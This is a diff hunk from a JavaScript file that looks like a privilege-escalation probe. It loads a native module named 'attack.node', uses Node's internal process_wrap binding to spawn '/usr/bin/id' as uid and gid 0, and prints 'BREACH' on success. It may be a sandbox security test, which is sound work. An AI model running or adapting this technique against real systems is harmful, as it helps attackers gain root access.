@@ -11,6 +11,6 @@ for (const library of ['/lib/x86_64-linux-gnu/libc.so.6', '/work/attack.node']) 
 }
 const { Process } = process.binding('process_wrap');
 const child = new Process();
-const error = child.spawn({ file: '/usr/bin/id', args: ['id'], uid: 0, gid: 0, flags: 3, stdio: [] });
+const error = child.spawn('/usr/bin/id', ['id'], undefined, undefined, [], 3, 0, 0); // flags: the next two are user and group
 console.log(error === 0 ? 'BREACH: a child as root' : error);
 process.exit(0);
